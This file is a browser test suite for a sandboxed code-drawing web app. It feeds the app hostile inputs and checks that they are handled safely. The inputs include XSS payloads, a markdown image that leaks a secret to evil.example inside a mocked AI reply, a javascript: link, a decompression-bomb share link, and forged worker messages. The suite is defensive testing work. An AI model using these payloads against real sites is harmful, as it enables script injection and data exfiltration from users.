// The attack list in the browser: hostile code in the built app, hostile texts on the page, forged worker messages.
// Code and expected outcomes come from the native suite (tests/it/attacks), so that both suites test the same attacks.
import { readFileSync } from "node:fs";
import { deflateRawSync } from "node:zlib";
import { assert, assertEqual, test, TIMED } from "../fixtures.mjs";
import { KEY, reply, startMock, text } from "../mock-anthropic.mjs";
import {
  connect,
  drawCircles,
  hook,
  mainThread,
  openApp,
  pageEventually,
  ready,
  say,
  typeCode,
  waitForEntities,
  watchMainThread,
} from "../page.mjs";

const ATTACKS = JSON.parse(readFileSync(new URL("../../golden/attacks.json", import.meta.url), "utf8"));

/** Pattern that the message matches for each kind of limit. */
const SAYS = { time: /stopped/, memory: /memory/, recursion: /deep/ };

/** Waits for a problem that matches the pattern, and returns its text. */
function problem(page, wanted, limit = 25_000) {
  return pageEventually(
    page,
    `a problem that says ${wanted}`,
    ([selector, source]) => {
      const said = document.querySelector(selector)?.textContent;
      return said && new RegExp(source).test(said) && said;
    },
    [hook("problem"), wanted.source],
    limit,
  );
}

/** Opens the app after an init script of the test has been added to the page. */
async function openWith(run, script, argument) {
  const page = await run.newPage();
  await page.addInitScript(script, argument);
  await page.goto(run.url);
  await ready(page);
  return page;
}

for (const { item, code, outcome } of ATTACKS) {
  test(`attack: item ${item} ends with ${outcome} and the next run works within a second`, TIMED, async ({ run }) => {
    const page = await openApp(run);
    await drawCircles(page, "before");
    await watchMainThread(page);
    const [kind, what] = outcome.split(" ");
    if (kind === "OK") {
      await typeCode(page, `${code}\ndrawCircle("done", 0, 0, 1);`);
      await waitForEntities(page, ["done"]);
    } else {
      await typeCode(page, code);
      const said = await problem(page, SAYS[what] ?? /./);
      run.note(said.trim().slice(0, 140));
      await waitForEntities(page, ["before"]);
    }
    const { longest } = await mainThread(page);
    run.note(`longest main-thread task ${Math.round(longest)} ms`);
    assert(longest <= 200, `a main-thread task took ${Math.round(longest)} ms`);
    const started = performance.now();
    await drawCircles(page, "after");
    const took = Math.round(performance.now() - started);
    run.note(`the next run was shown after ${took} ms, typing included`);
    assert(took < 2_000, `the next run took ${took} ms`);
    await page.waitForSelector(hook("problem"), { state: "detached" });
  });
}

test("attack: markup is text in the tree, the log, problems and the preview", async ({ run }) => {
  const page = await openApp(run);
  page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
  const texts = ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', "</text><foreignObject>", "{{7*7}}", "&lt;b&gt;"];
  const lines = texts.map((text) => `drawCircle(${JSON.stringify(text)}, 0, 0, 5); console.log(${JSON.stringify(text)});`);
  await typeCode(page, lines.join("\n"));
  await waitForEntities(page, texts);
  const clean = async (where) => {
    assertEqual(await page.locator("img[src=x], foreignObject, #app script").count(), 0, `elements made from text ${where}`);
  };
  await clean("in the tree and on the canvas");
  await page.locator(hook("share")).click();
  await page.locator(hook("share-link")).click();
  const link = await pageEventually(page, "a link", (selector) => document.querySelector(selector)?.value, hook("share-url"));
  await page.locator(hook("close-share")).click();
  await page.waitForSelector(hook("share-dialog"), { state: "detached" });
  await typeCode(page, `throw new Error(${JSON.stringify(texts.join(" "))});`);
  const said = await problem(page, /onerror/);
  assert(texts.every((text) => said.includes(text)), `the problem shows every letter: ${said}`);
  await clean("in the problem");
  await page.evaluate((hash) => (location.hash = hash), new URL(link).hash);
  await page.waitForSelector(`${hook("preview-state")}[data-state="drawn"]`);
  await clean("in the preview");
});

test("attack: what a model writes is text, without links, pictures or markup", async ({ run }) => {
  const words =
    "Here ![](https://evil.example/?q=secret) and [a link](javascript:alert(1)) and <img src=x onerror=alert(1)> <script>alert(1)</script> **done**";
  const mock = await startMock({ turns: [reply(text(words))] });
  try {
    const page = await openApp(run);
    page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
    page.on("request", (request) => {
      if (request.url().includes("evil.example")) run.problems.push(`a request to ${request.url()}`);
    });
    await connect(page, { baseUrl: mock.baseUrl, key: KEY });
    await say(page, "hello");
    const message = `${hook("message")}[data-role="model"]`;
    await pageEventually(page, "the answer", (selector) => document.querySelector(selector)?.textContent.includes("done"), message);
    assertEqual(await page.locator(`${message} :is(img, script, a, iframe, object, svg image)`).count(), 0, "elements made from the answer");
    const shown = await page.locator(message).first().textContent();
    assert(shown.includes("onerror=alert(1)") && shown.includes("evil.example"), `every letter is shown: ${shown}`);
  } finally {
    await mock.close();
  }
});

function crc32(bytes) {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return (~crc >>> 0).toString(16).padStart(8, "0");
}

test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, async ({ run }) => {
  const packed = deflateRawSync(Buffer.alloc(1 << 28, 32), { level: 9 });
  // Four blocks of 256 MiB would not fit into an address; one block is enough to fill a tab.
  const encoded = packed.toString("base64url");
  const page = await openApp(run);
  await drawCircles(page, "own");
  await watchMainThread(page);
  for (const claimed of [100, 4 << 20]) {
    const fragment = `t1.${encoded.length}.${claimed}.${crc32(packed)}.${encoded}`;
    run.note(`${fragment.length} characters claim ${claimed} bytes`);
    await page.evaluate((hash) => (location.hash = hash), fragment);
    await page.waitForSelector(`${hook("share-trouble")}[data-kind="corrupt"]`);
    await page.locator(`${hook("share-trouble")} button`).last().click();
    await page.waitForSelector(hook("share-trouble"), { state: "detached" });
  }
  const { longest } = await mainThread(page);
  run.note(`longest main-thread task ${Math.round(longest)} ms`);
  assert(longest <= 1_000, `a main-thread task took ${Math.round(longest)} ms`);
  await waitForEntities(page, ["own"]);
});

/** Replaces the worker by one that sends forged messages before the real ones, or instead of them. */
function forgeWorkers() {
  const Real = window.Worker;
  const alive = new Set();
  const forgeries = {
    "nothing of ours": () => [null, "done", 7, [], {}, { kind: "done" }, { kind: "done", id: -1, bytes: [] }, { kind: "other" }],
    garbage: ({ id }) => [{ kind: "done", id, bytes: crypto.getRandomValues(new Uint8Array(5000)) }],
    "nothing at all": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array(0) }],
    "the result of another run": ({ id }) => [{ kind: "done", id: id + 1, bytes: new Uint8Array(9) }],
    "too much": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array((64 << 20) + 1) }],
    "a crash with markup": ({ id }) => [{ kind: "crash", id, text: "<img src=x onerror=alert(1)>", panic: "" }],
    "ready once more": () => [{ kind: "ready", protocol: 1, build: "x" }],
    "stuck without end": ({ id }) =>
      Array.from({ length: 2000 }, () => ({ kind: "stuck", id, file: "main", line: 99999, column: 1 })),
    "everything twice": ({ id }) => [1, 2].map(() => ({ kind: "done", id, bytes: new Uint8Array([3, 1, 2]) })),
  };
  window.workers = { most: 0, forge: null, silent: false, forgeries };
  window.Worker = class extends Real {
    constructor(...given) {
      super(...given);
      alive.add(this);
      window.workers.most = Math.max(window.workers.most, alive.size);
    }
    terminate() {
      alive.delete(this);
      super.terminate();
    }
    postMessage(message, ...rest) {
      const { forge, silent } = window.workers;
      if (message.kind === "run" && forge) {
        for (const data of forge(message)) {
          setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })));
        }
        if (silent) return;
      }
      super.postMessage(message, ...rest);
    }
  };
}

test("attack: whatever a worker answers, the drawing stays and the next run works", async ({ run }) => {
  const page = await openWith(run, forgeWorkers);
  page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
  await drawCircles(page, "before");
  /** Name of each forgery, and whether the run fails: messages with an unknown format have no effect. */
  const forgeries = [
    ["nothing of ours", false],
    ["garbage", true],
    ["nothing at all", true],
    ["the result of another run", true],
    ["too much", true],
    ["a crash with markup", true],
    ["ready once more", true],
    ["stuck without end", true],
    ["everything twice", true],
  ];
  for (const [at, [name, fails]] of forgeries.entries()) {
    await page.evaluate(
      ([name, silent]) => {
        window.workers.forge = window.workers.forgeries[name];
        window.workers.silent = silent;
      },
      [name, fails],
    );
    await typeCode(page, `drawCircle("forged_${at}", 0, 0, 5);`);
    if (fails) {
      const said = await problem(page, /./);
      run.note(`${name}: ${said.trim().slice(0, 110)}`);
    } else {
      await waitForEntities(page, [`forged_${at}`]);
    }
    await page.evaluate(() => {
      window.workers.forge = null;
      window.workers.silent = false;
    });
    await drawCircles(page, `after_${at}`);
    await page.waitForSelector(hook("problem"), { state: "detached" });
    assertEqual(await page.locator("img[src=x]").count(), 0, "elements made from an answer");
  }
});

test("attack: never more than two workers, and no outcome is lost", async ({ run }) => {
  const page = await openWith(run, forgeWorkers);
  await drawCircles(page, "first");
  for (let at = 0; at < 20; at += 1) await typeCode(page, `drawCircle("quick_${at}", 0, 0, 5);`);
  await waitForEntities(page, ["quick_19"]);
  // An endless run, which a newer run replaces.
  await typeCode(page, "while (true) {}");
  await typeCode(page, 'drawCircle("overtaking", 0, 0, 5);');
  await waitForEntities(page, ["overtaking"]);
  const most = await page.evaluate(() => window.workers.most);
  run.note(`at most ${most} workers at once`);
  assert(most <= 2, `${most} workers were alive at once`);
});

test("attack: without an engine the page says so and everything else works", async ({ run }) => {
  run.allow(/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/);
  const answers = [
    ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
    ["sandbox_bg.wasm", { status: 200, contentType: "application/wasm", body: "no wasm" }, /could not be loaded/],
    ["sandbox.js", { status: 404, body: "not found" }, /could not be loaded/],
    ["sandbox.js", { status: 200, contentType: "text/javascript", body: "this is no code" }, /could not be loaded/],
    [
      "sandbox.js",
      {
        status: 200,
        contentType: "text/javascript",
        body: 'const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "0.0.1" };',
      },
      /another version/,
    ],
  ];
  for (const [file, answer, says] of answers) {
    const page = await run.newPage();
    const broken = (url) => url.pathname.endsWith(`/${file}`);
    await page.route(broken, (route) => route.fulfill(answer));
    await page.goto(run.url);
    await ready(page);
    await typeCode(page, 'drawCircle("now", 0, 0, 5);');
    const said = await problem(page, says);
    run.note(`${file}: ${said.trim().slice(0, 130)}`);
    await page.locator(hook("share")).click();
    await page.locator(hook("share-link")).click();
    await page.locator(hook("export-as-is")).click();
    await page.waitForSelector(hook("share-url"));
    await page.locator(hook("close-share")).click();
    await page.waitForSelector(hook("share-dialog"), { state: "detached" });
    await page.unroute(broken);
    // The next run loads the engine again.
    await drawCircles(page, "mended");
    await page.waitForSelector(hook("problem"), { state: "detached" });
  }
});

test("attack: a worker has no network, no storage and no other workers", async ({ run }) => {
  run.allow(/Content.Security.Policy|unsafe-eval|CSP/);
  const glue = `
    const found = [];
    const names = "fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection importScripts indexedDB caches " +
      "cookieStore BroadcastChannel Worker SharedWorker MessageChannel navigator location postMessage setTimeout " +
      "setInterval requestAnimationFrame queueMicrotask structuredClone createImageBitmap FontFace Notification " +
      "FileReader FileReaderSync Blob File URL OffscreenCanvas StorageManager";
    for (const name of names.split(" ")) {
      for (let level = self; level; level = Object.getPrototypeOf(level)) {
        if (Object.getOwnPropertyDescriptor(level, name)?.value || Object.getOwnPropertyDescriptor(level, name)?.get) found.push(name);
      }
    }
    for (const make of [() => eval("1"), () => new Function("return fetch")(), () => (async () => {}).constructor("return fetch")()]) {
      try { make(); found.push("code from text"); } catch {}
    }
    const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "found[" + found.join(",") + "]" };`;
  const page = await run.newPage();
  await page.route(
    (url) => url.pathname.endsWith("/sandbox.js"),
    (route) => route.fulfill({ status: 200, contentType: "text/javascript", body: glue }),
  );
  await page.goto(run.url);
  await ready(page);
  await typeCode(page, 'drawCircle("now", 0, 0, 5);');
  const said = await problem(page, /found\[/);
  run.note(said.trim().slice(0, 160));
  assert(said.includes("found[]"), `what a worker can reach: ${said}`);
});
